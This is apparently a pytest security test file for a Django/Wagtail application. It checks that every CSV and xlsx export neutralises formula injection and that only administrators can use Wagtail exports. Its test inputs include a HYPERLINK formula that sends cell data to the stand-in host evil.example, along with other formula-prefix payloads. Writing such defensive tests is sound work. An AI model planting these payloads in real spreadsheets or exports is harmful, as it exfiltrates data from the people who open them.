"""No export hands a spreadsheet a formula (CSV/xlsx injection).

Every export URL of the permission matrix is walked with hostile text in every text field
that reaches it: a failed sign-in's username, office, person, course, lecture and page
titles, an override reason, a redirect. Each CSV is parsed and each workbook opened with
openpyxl; no cell may start with a formula character (``= + - @``, tab, carriage return)
unless neutralised with a leading apostrophe. Wagtail's own exports (``?export=csv|xlsx``
on every view built on ``SpreadsheetExportMixin``) are walked too, and refused to everyone
but administrators.

``test_every_export_is_walked`` fails on an export route nobody declared here.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from importlib import import_module
from urllib.parse import urlsplit

import pytest
from django.test import Client
from django.urls import resolve, reverse
from django.utils import timezone
from openpyxl import load_workbook

from audit.models import AccessEvent, Action
from audit.services import record_access
from tests.factories import login_staff
from tests.security.test_permission_matrix import iter_routes

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("english")]

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"Open")'
HOSTILE = [HYPERLINK, "+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
REASON = "=住院，已提供病假条"  # an officer's override reason: health information

# Exports that write no spreadsheet: a JSON subject-access file and PDFs.
NOT_SPREADSHEETS = {
    "people_person_export": "JSON (the person's own data, privacy.md)",
    "assessments_result_pdf": "PDF",
    "plans_plan_pdf": "PDF",
    "dossiers_download": "PDF (the education and assistance file's copies)",
    # Its history.csv is written by dossiers.archive.history_csv (lib.downloads.csv_text), the
    # same as dossiers_history_export walked below; tests/dossiers/test_archive_export.py
    # checks a hostile problem is neutralised inside the zip.
    "dossiers_archive_export": "ZIP (an archived file's PDFs, its history as CSV and JSON)",
}
EXPORT_NAME = re.compile(r"export|download|pdf|csv|xlsx")


def _wagtail_export_routes() -> list[tuple[str, str]]:
    """(route, sample url) of every view built on Wagtail's ``SpreadsheetExportMixin`` that
    offers its GET export (the access log's export is a logged POST: ``get_export = False``,
    tested with the POST exports above)."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    found = []
    for route in iter_routes():
        url = route.url()
        try:
            func = resolve(urlsplit(url).path).func
        except Exception:  # noqa: S112 - sample URLs of regex routes that resolve elsewhere
            continue
        view_class = getattr(func, "view_class", None)
        if (
            view_class is not None
            and issubclass(view_class, SpreadsheetExportMixin)
            and getattr(view_class, "get_export", True)
        ):
            found.append((route.route, url))
    return found


def _cells(response) -> list[str]:
    """Every text cell of a CSV or xlsx download."""
    content = (
        b"".join(response.streaming_content)
        if getattr(response, "streaming", False)
        else response.content
    )
    if content.startswith(b"PK"):
        book = load_workbook(io.BytesIO(content))
        return [
            cell.value
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if isinstance(cell.value, str)
        ]
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _unsafe(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA_START)]


# --- Hostile data -----------------------------------------------------------------------------


@pytest.fixture
def hostile(org):
    """Hostile text in every field that reaches an export; returns what was made."""
    from assessments.taking import do_review
    from learning.models import Enrollment
    from live import services as live_services
    from tests.assessments.helpers import submitted
    from tests.learning.builders import make_course
    from tests.live.helpers import attend, past_lecture, pid, store

    org.east.name = HYPERLINK
    org.east.save(update_fields=["name"])
    org.west.name = "@SUM(1)"
    org.west.save(update_fields=["name"])
    type(org.person).objects.filter(pk=org.person.pk).update(full_name="-1+1")
    type(org.other_person).objects.filter(pk=org.other_person.pk).update(full_name="+1")
    org.person.refresh_from_db()
    org.other_person.refresh_from_db()

    # The access log: a sign-in attempt by anyone, and events carrying the other prefixes.
    Client().post(reverse("login"), {"username": HYPERLINK, "password": "wrong"})
    for value in HOSTILE[1:]:
        record_access(action=Action.VIEW, username=value, detail=value, object_type=value)

    # Study progress: a course with a hostile title.
    course = make_course(lessons=1)
    course.title = "\t=1+1"
    course.save_revision().publish()
    course.refresh_from_db()
    Enrollment.objects.create(person=org.person, course=course)

    # Attendance: a past lecture with a hostile title and an override reason.
    lecture = past_lecture(org, offices=(org.east,), title="\r=1+1")
    start = lecture.start
    store(attend(lecture, pid(lecture, org.person), start, start + dt.timedelta(minutes=60)))
    live_services.do_recompute_attendance(lecture)
    row = lecture.attendance.get(person=org.person)
    live_services.do_override_attendance(row, status="excused", reason=REASON, by=org.officer)

    # Questionnaire statistics: a reviewed result in the (hostile) east office.
    do_review(submitted(org.person, [1] * 9, by=org.counselor), org.counselor, "Seen.")

    # Wagtail's reports: the course page locked (locked pages, site history, aging pages) and
    # a redirect to a hostile link.
    from wagtail.contrib.redirects.models import Redirect

    course.locked, course.locked_by, course.locked_at = True, org.editor, timezone.now()
    course.save(update_fields=["locked", "locked_by", "locked_at"])
    Redirect.objects.create(old_path="/old", redirect_link="http://x/" + HYPERLINK)
    return {"course": course, "lecture": lecture}


def _monthly_report(client, org) -> dict:
    from participation.models import ReportFile

    month = timezone.localdate().strftime("%Y-%m")
    client.post(
        reverse("learning_report_monthly"),
        {"office": org.east.pk, "month": month, "format": "xlsx"},
    )
    report = ReportFile.objects.filter(requested_by=org.officer).latest("pk")
    return {"pk": report.pk}


def _returned_dossier(org):
    """``org.person``'s file, returned in round 1 with a hostile problem and note."""
    return import_module("tests.dossiers.helpers").returned_dossier(org, HYPERLINK)


# name → (role, url kwargs, [POST data]); every POST data gives one download.
EXPORTS = {
    "audit_access_log_export": ("administrator", lambda org, made: {}, [{}]),
    "assessments_statistics_export": (
        "administrator",
        lambda org, made: {},
        [
            {"instrument": "phq9", "format": "csv", "table": "bands"},
            {"instrument": "phq9", "format": "csv", "table": "alpha"},
            {"instrument": "phq9", "format": "xlsx"},
        ],
    ),
    "learning_progress_course_export": (
        "officer",
        lambda org, made: {"pk": made["course"].pk},
        [{"format": "csv"}, {"format": "xlsx"}],
    ),
    "learning_progress_office_export": (
        "officer",
        lambda org, made: {"pk": org.east.pk},
        [{"format": "csv"}, {"format": "xlsx"}],
    ),
    "live_attendance_export": (
        "officer",
        lambda org, made: {"pk": made["lecture"].pk},
        [{"format": "csv"}, {"format": "xlsx"}],
    ),
    "live_person_history_export": (
        "officer",
        lambda org, made: {"pk": org.person.pk},
        [{"format": "csv"}],
    ),
    "learning_report_download": ("officer", None, [{}]),  # the monthly report, made below
    "dossiers_history_export": (
        "officer",
        lambda org, made: {"pk": _returned_dossier(org).pk},
        [{}],
    ),
}
# The hostile value a cell of each export starts with, neutralised (the field reached it).
EXPECTED = {
    "audit_access_log_export": "'" + HYPERLINK,
    "assessments_statistics_export": "'" + HYPERLINK,
    "learning_progress_course_export": "'-1+1",
    "learning_progress_office_export": "'-1+1",
    "live_attendance_export": "'" + REASON,
    "live_person_history_export": "'\r=1+1",
    "learning_report_download": "'" + HYPERLINK,  # the office, in the report's title
    "dossiers_history_export": "'" + HYPERLINK,  # a reviewer's problem
}


def test_every_export_is_walked():
    """DB-free: a new export route must be walked here (or named as no spreadsheet)."""
    names = {r.name for r in iter_routes() if r.name and EXPORT_NAME.search(r.name)}
    missing = names - set(EXPORTS) - set(NOT_SPREADSHEETS)
    assert not missing, f"exports not walked by this test: {sorted(missing)}"
    assert _wagtail_export_routes(), "no Wagtail export view found: has Wagtail changed?"


def test_every_export_neutralises_formulas(org, hostile):
    from participation.models import ReportFile, ReportStatus

    seen: dict[str, list[str]] = {}
    for name, (role, kwargs, posts) in EXPORTS.items():
        client = Client()
        login_staff(client, getattr(org, role))
        if kwargs is None:
            params = _monthly_report(client, org)
            report = ReportFile.objects.get(pk=params["pk"])
            assert report.status == ReportStatus.READY, report.error
        else:
            params = kwargs(org, hostile)
        url = reverse(name, kwargs=params or None)
        assert client.get(url).status_code == 405, f"{name}: an export is a POST"
        for data in posts:
            response = client.post(url, data)
            assert response.status_code == 200, (name, data, response.status_code)
            cells = _cells(response)
            assert not _unsafe(cells), (name, data, _unsafe(cells))
            seen.setdefault(name, []).extend(cells)
    for name, value in EXPECTED.items():
        assert any(cell.startswith(value) for cell in seen[name]), (name, value, seen[name][:40])


def test_the_lecturer_sees_no_reason_in_any_format(org, hostile):
    client = Client()
    login_staff(client, org.lecturer)
    url = reverse("live_attendance_export", kwargs={"pk": hostile["lecture"].pk})
    for fmt in ("csv", "xlsx"):
        cells = _cells(client.post(url, {"format": fmt}))
        assert not _unsafe(cells)
        assert "'" + REASON not in cells  # the override reason is not the lecturer's


def test_wagtail_exports_are_for_administrators_and_neutralised(org, hostile):
    """A superuser sees every report's rows (the bureau's administrator holds no page
    permissions, so most reports are empty or refused to them); every other role is refused
    every Wagtail export."""
    from people.models import User

    root = User.objects.create_superuser("root", password="x" * 20)  # noqa: S106
    clients = {}
    for role, user in (("root", root), *((r, getattr(org, r)) for r in REFUSED_ROLES)):
        clients[role] = Client()
        login_staff(clients[role], user)
    admin = Client()
    login_staff(admin, org.administrator)
    carried = set()
    for _route, url in _wagtail_export_routes():
        for fmt in ("csv", "xlsx"):
            export = f"{url}?export={fmt}"
            response = clients["root"].get(export)
            if response.status_code == 404:  # a sample id that does not exist
                continue
            assert response.status_code == 200, (export, response.status_code)
            cells = _cells(response)
            assert not _unsafe(cells), (export, _unsafe(cells))
            carried.update(c for c in cells if c.startswith("'"))
            answer = admin.get(export)  # theirs when Wagtail lets them see the listing
            assert answer.status_code in (200, 302, 404), (export, answer.status_code)
            if answer.status_code == 200:
                assert not _unsafe(_cells(answer)), export
            for role in REFUSED_ROLES:
                refused = clients[role].get(export)
                assert refused.status_code in (302, 403, 404), (export, role, refused.status_code)
                assert not refused.get("Content-Disposition"), (export, role)
    # The page title reached the site history, locked and aging pages, the redirect link the
    # redirects: all neutralised.
    assert "'\t=1+1" in carried, sorted(carried)
    assert AccessEvent.objects.filter(action=Action.EXPORT, object_type="wagtail.export").exists()


REFUSED_ROLES = ("editor", "officer", "counselor", "lecturer")


def test_wagtail_report_pages_offer_no_export_buttons_but_to_administrators(org, hostile):
    for role, offered in (("administrator", True), ("editor", False)):
        client = Client()
        login_staff(client, getattr(org, role))
        body = client.get("/admin/reports/site-history/").content.decode()
        assert ("export=csv" in body) is offered, role
